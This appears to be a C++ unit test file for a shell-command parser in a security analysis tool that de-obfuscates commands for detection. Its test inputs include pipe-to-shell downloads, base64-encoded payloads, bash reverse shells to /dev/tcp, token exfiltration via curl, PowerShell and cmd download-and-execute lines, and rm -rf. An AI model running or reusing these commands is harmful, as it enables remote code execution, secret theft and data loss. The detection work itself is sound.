#include <gtest/gtest.h>

#include "base/text.h"
#include "facts/code/shell/shell_testing.h"

namespace assay::code {
namespace {

const std::string unknown(hole);

TEST(Posix, a_download_piped_into_a_shell_is_seen_as_a_pipe) {
  EXPECT_EQ(posix("curl -s https://h.example.test/a | sudo -E bash -"),
            "<curl> <-s> <https://h.example.test/a>\n"
            "<bash> <-> from=0\n");
}

TEST(Posix, quotes_and_backslashes_are_removed) {
  EXPECT_EQ(posix(R"(c"u"r'l' \w\g\e\t "a b" 'c"d' e\ f "g\"h\n")"),
            "<curl> <wget> <a b> <c\"d> <e f> <g\"h\\n>\n");
}

TEST(Posix, ansi_quotes_are_decoded) {
  EXPECT_EQ(posix(R"($'\x63\165rl\n\u0041')"), "<curl\nA>\n");
}

TEST(Posix, words_put_together_from_variables_are_known) {
  EXPECT_EQ(posix("A=cu; B=rl; $A$B http://h.example.test"),
            "{A=cu}\n{B=rl}\n<curl> <http://h.example.test>\n");
}

TEST(Posix, an_unquoted_variable_is_split_into_words_and_a_quoted_one_is_not) {
  EXPECT_EQ(posix("C='wget -q u'; $C; \"$C\""), "{C=wget -q u}\n<wget> <-q> <u>\n<wget -q u>\n");
}

TEST(Posix, ifs_stands_for_a_blank) {
  EXPECT_EQ(posix("curl${IFS}-s$IFS$9http://h.example.test"),
            "<curl> <-s> <http://h.example.test>\n");
}

TEST(Posix, empty_positional_parameters_inside_a_word_disappear) {
  EXPECT_EQ(posix("cu$@rl w$1get"), "<curl> <wget>\n");
}

TEST(Posix, unset_variables_are_holes_and_are_named) {
  EXPECT_EQ(posix("curl -d \"$NPM_TOKEN\" $HOME/x"),
            "<curl> <-d> <" + unknown + "> <" + unknown + "/x> $NPM_TOKEN $HOME\n");
}

TEST(Posix, a_secret_is_followed_through_a_variable) {
  EXPECT_EQ(posix("T=$NPM_TOKEN; curl -d $T u"),
            "{T=" + unknown + "} $NPM_TOKEN\n<curl> <-d> <" + unknown + "> <u> $NPM_TOKEN\n");
}

TEST(Posix, parameter_operators_work_on_constants) {
  EXPECT_EQ(posix("z=abcdef; echo ${z:1:3} ${z: -2} ${z//b/x} ${z#ab} ${z%ef} ${#z} ${z^^}"),
            "{z=abcdef}\n<echo> <bcd> <ef> <axcdef> <cdef> <abcd> <6> <ABCDEF>\n");
  EXPECT_EQ(posix("curl ${U:-http://d.example.test}"), "<curl> <http://d.example.test> $U\n");
  EXPECT_EQ(posix("a=b; b=curl; ${!a} x"), "{a=b}\n{b=curl}\n<curl> <x>\n");
}

TEST(Posix, braces_make_words) {
  EXPECT_EQ(posix("{curl,-s,u}|sh"), "<curl> <-s> <u>\n<sh> from=0\n");
  EXPECT_EQ(posix("cp a.{js,ts} {x} b"), "<cp> <a.js> <a.ts> <{x}> <b>\n");
}

TEST(Posix, substitutions_are_commands_one_level_deeper) {
  EXPECT_EQ(posix("eval \"$(curl -s u)\"; x `id`"), "<eval> <" + unknown +
                                                        "> sub=1\n.<curl> <-s> <u>\n"
                                                        "<x> <" +
                                                        unknown + "> sub=3\n.<id>\n");
}

TEST(Posix, the_output_of_a_command_is_followed_through_a_variable) {
  EXPECT_EQ(posix("S=$(curl u); eval \"$S\""),
            "{S=" + unknown + "} sub=1\n.<curl> <u>\n<eval> <" + unknown + "> sub=1\n");
}

TEST(Posix, process_substitution_is_a_file_with_its_commands) {
  EXPECT_EQ(posix("bash <(curl u)"), "<bash> </dev/fd/63> sub=1\n.<curl> <u>\n");
}

TEST(Posix, base64_pipelines_are_decoded_and_opened) {
  // curl http://b.example.test/ | sh
  EXPECT_EQ(posix("echo Y3VybCBodHRwOi8vYi5leGFtcGxlLnRlc3QvIHwgc2g= | base64 -d | sh"),
            "<echo> <Y3VybCBodHRwOi8vYi5leGFtcGxlLnRlc3QvIHwgc2g=>\n"
            "<base64> <-d> from=0\n"
            "<sh> from=1\n"
            ".<curl> <http://b.example.test/>\n"
            ".<sh> from=3\n");
}

TEST(Posix, a_decoded_substitution_is_run_by_eval) {
  EXPECT_EQ(posix("eval $(printf '%s' Y2FsYw== | openssl base64 -d)"),
            "<eval> <calc> sub=1 sub=2\n.<printf> <%s> <Y2FsYw==>\n"
            ".<openssl> <base64> <-d> from=1\n.<calc>\n");
}

TEST(Posix, printf_hex_rev_tr_and_xxd_are_computed) {
  EXPECT_EQ(posix(R"($(printf '\x6c\x73'))"), "<ls> sub=1\n.<printf> <\\x6c\\x73>\n");
  EXPECT_EQ(posix("$(echo sl | rev)"), "<ls> sub=1 sub=2\n.<echo> <sl>\n.<rev> from=1\n");
  EXPECT_EQ(posix("echo yf | tr a-z n-za-m | sh"),
            "<echo> <yf>\n<tr> <a-z> <n-za-m> from=0\n<sh> from=1\n.<ls>\n");
  EXPECT_EQ(posix("echo 6c73 | xxd -r -p | sh"),
            "<echo> <6c73>\n<xxd> <-r> <-p> from=0\n<sh> from=1\n.<ls>\n");
}

TEST(Posix, scripts_that_the_text_writes_are_opened_where_they_run) {
  EXPECT_EQ(posix("echo 'curl u' > /tmp/x; sh /tmp/x"),
            "<echo> <curl u> to=/tmp/x\n<sh> </tmp/x>\n.<curl> <u>\n");
  EXPECT_EQ(posix("cat <<'E' > /tmp/x\ncurl u\nE\nchmod +x /tmp/x && /tmp/x"),
            "<cat> to=/tmp/x\n<chmod> <+x> </tmp/x>\n</tmp/x>\n.<curl> <u>\n");
}

TEST(Posix, shells_given_text_are_opened) {
  EXPECT_EQ(posix("sh -c 'curl u | sh' x"),
            "<sh> <-c> <curl u | sh> <x>\n.<curl> <u>\n.<sh> from=1\n");
  EXPECT_EQ(posix("bash -lc \"id\" && busybox sh -c ls"),
            "<bash> <-lc> <id>\n.<id>\n<sh> <-c> <ls>\n.<ls>\n");
  EXPECT_EQ(posix("su root -c 'id'"), "<su> <root> <-c> <id>\n.<id>\n");
  EXPECT_EQ(posix("sh <<< 'id'"), "<sh>\n.<id>\n");
}

TEST(Posix, here_documents_are_input_and_opened_for_shells) {
  const ShellScript script = parse_shell("sh <<EOF | tee l\nwget $X\nEOF\nls");
  EXPECT_EQ(shown(script), "<sh> $X\n.<wget> <" + unknown + ">\n<tee> <l> from=1\n<ls>\n");
  EXPECT_EQ(script.commands[0].input, "wget " + unknown + "\n");
}

TEST(Posix, two_here_documents_on_a_line_follow_each_other) {
  const ShellScript script = parse_shell("cat <<A; cat <<-'B'\n1\nA\n\t2 $x\n\tB\nls");
  ASSERT_EQ(script.commands.size(), 3u);
  EXPECT_EQ(script.commands[0].input, "1\n");
  EXPECT_EQ(script.commands[1].input, "2 $x\n");
  EXPECT_EQ(script.commands[2].words, std::vector<std::string>{"ls"});
}

TEST(Posix, redirects_are_kept) {
  EXPECT_EQ(posix("a > f 2> g < h >> i"), "<a> to=f to=g to=i of=h\n");
  EXPECT_EQ(posix("a >/dev/null 2>&1; b 2>/dev/null; c &>/dev/null; d >&2; e >&-"),
            "<a> quiet no-errors\n<b> no-errors\n<c> quiet no-errors\n<d>\n<e> quiet\n");
}

TEST(Posix, reverse_shells_show_their_address) {
  EXPECT_EQ(posix("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
            "<bash> <-i> to=/dev/tcp/192.0.2.1/4444 of=/dev/tcp/192.0.2.1/4444\n");
  EXPECT_EQ(posix("exec 5<>/dev/tcp/192.0.2.1/44; sh <&5 >&5"),
            "<exec> to=/dev/tcp/192.0.2.1/44 of=/dev/tcp/192.0.2.1/44\n"
            "<sh> to=/dev/tcp/192.0.2.1/44 of=/dev/tcp/192.0.2.1/44\n");
}

TEST(Posix, what_runs_another_command_is_taken_off) {
  EXPECT_EQ(posix("nohup timeout -k 5 10 env -i A=b nice -n 5 node x.js &"),
            "{A=b} <node> <x.js> background\n");
  EXPECT_EQ(posix("sudo -u root -- curl u; command -v curl; exec -a x ls; time ls"),
            "<curl> <u>\n<command> <-v> <curl>\n<ls>\n<ls>\n");
  EXPECT_EQ(posix("cross-env NODE_ENV=x node y.js; env -S 'A=b curl u'"),
            "{NODE_ENV=x} <node> <y.js>\n{A=b} <curl> <u>\n");
}

TEST(Posix, xargs_and_find_run_their_commands) {
  EXPECT_EQ(posix("echo u | xargs -n1 curl -O"),
            "<echo> <u>\n<xargs> <-n1> <curl> <-O> from=0\n.<curl> <-O> <u> from=0\n");
  EXPECT_EQ(posix("cat l | xargs -I{} sh -c 'curl {}'"),
            "<cat> <l>\n<xargs> <-I{}> <sh> <-c> <curl {}> from=0 of=l\n"
            ".<sh> <-c> <curl " +
                unknown + "> from=0 of=l\n..<curl> <" + unknown + "> from=0 of=l\n");
  EXPECT_EQ(posix("find . -exec rm -rf {} \\; -exec ls {} +"),
            "<find> <.> <-exec> <rm> <-rf> <{}> <;> <-exec> <ls> <{}> <+>\n"
            ".<rm> <-rf> <" +
                unknown + ">\n.<ls> <" + unknown + ">\n");
}

TEST(Posix, compound_commands_are_flattened) {
  EXPECT_EQ(posix("if [ -f x ]; then a; elif b; then c; else d; fi > f"),
            "<[> <-f> <x> <]> to=f\n<a> to=f\n<b> to=f\n<c> to=f\n<d> to=f\n");
  EXPECT_EQ(posix("case $x in a|b) c;; (*) d ;; esac; e"), "<c>\n<d>\n<e>\n");
  EXPECT_EQ(posix("for i in u; do curl $i; done; for j in a b; do f $j; done"),
            "<curl> <u>\n<f> <" + unknown + ">\n");
  EXPECT_EQ(posix("f() { curl u; }; function g { a; }; f"), "<curl> <u>\n<a>\n<f>\n");
  EXPECT_EQ(posix("[[ a == b && c < d ]] && e"), "<[[> <a> <==> <b> <&&> <c> <<> <d> <]]>\n<e>\n");
}

TEST(Posix, a_loop_reads_what_is_piped_into_it) {
  EXPECT_EQ(posix("curl u | while read -r l; do sh -c \"$l\"; done"),
            "<curl> <u>\n<read> <-r> <l> from=0\n<sh> <-c> <" + unknown + "> from=0 sub=0\n");
}

TEST(Posix, what_follows_a_group_reads_its_last_speaker) {
  EXPECT_EQ(posix("(cd x; curl u; echo done) | sh"),
            ".<cd> <x>\n.<curl> <u>\n.<echo> <done>\n<sh> from=1\n");
  EXPECT_EQ(posix("bash -c 'curl u' | sh"), "<bash> <-c> <curl u>\n.<curl> <u>\n<sh> from=1\n");
}

TEST(Posix, background_reaches_every_command_of_the_pipeline) {
  EXPECT_EQ(posix("a; curl u | sh & b"),
            "<a>\n<curl> <u> background\n<sh> from=1 background\n<b>\n");
}

TEST(Posix, a_file_piped_into_a_shell_is_a_file_that_it_reads) {
  EXPECT_EQ(posix("cat x.sh | sh"), "<cat> <x.sh>\n<sh> from=0 of=x.sh\n");
}

TEST(Posix, aliases_and_traps_are_followed) {
  EXPECT_EQ(posix("alias k='curl -s'; k u"), "<alias> <k=curl -s>\n<curl> <-s> <u>\n");
  EXPECT_EQ(posix("trap 'curl u' EXIT"), "<trap> <curl u> <EXIT>\n.<curl> <u>\n");
}

TEST(Posix, applescript_shells_are_opened) {
  EXPECT_EQ(posix(R"(osascript -e 'do shell script "curl \"u\""')"),
            "<osascript> <-e> <do shell script \"curl \\\"u\\\"\">\n.<curl> <u>\n");
}

TEST(Posix, powershell_lines_keep_its_own_variables_and_parentheses) {
  EXPECT_EQ(posix("powershell -c \"$c='u'; iwr $c\""),
            "<powershell> <-c> <$c='u'; iwr $c>\n.<invoke-webrequest> <u>\n");
  EXPECT_EQ(posix("powershell (New-Object Net.WebClient).DownloadString('u')"),
            "<powershell> <(New-Object Net.WebClient).DownloadString('u')>\n"
            ".<new-object> <Net.WebClient>\n.<net.webclient.downloadstring> <u> sub=1\n");
}

TEST(Posix, lines_for_cmd_are_read_as_cmd_would) {
  EXPECT_EQ(posix("cmd /c start /b curl u ^& calc"),
            "<cmd> </c> <start> </b> <curl> <u> <&> <calc>\n.<curl> <u> background\n.<calc>\n");
  EXPECT_EQ(posix("curl -o %TEMP%\\a.exe u && %TEMP%\\a.exe"),
            "<curl> <-o> <" + unknown + "\\a.exe> <u> $TEMP\n<" + unknown + "\\a.exe> $TEMP\n");
}

TEST(Posix, comments_and_joined_lines_are_understood) {
  EXPECT_EQ(posix("a#b c # curl u\n# x\nd \\\n e\r\nf"), "<a#b> <c>\n<d> <e>\n<f>\n");
}

TEST(Posix, ranges_point_at_the_command_as_written) {
  const std::string text = "a; sh -c 'curl u; b' # x";
  const ShellScript script = parse_shell(text);
  ASSERT_EQ(script.commands.size(), 4u);
  const auto range = [&](std::size_t i) {
    const ShellCommand& command = script.commands[i];
    return text.substr(command.begin, command.end - command.begin);
  };
  EXPECT_EQ(range(0), "a");
  EXPECT_EQ(range(1), "sh -c 'curl u; b'");
  EXPECT_EQ(range(2), "curl u");
  EXPECT_EQ(range(3), "b");
}

}  // namespace
}  // namespace assay::code
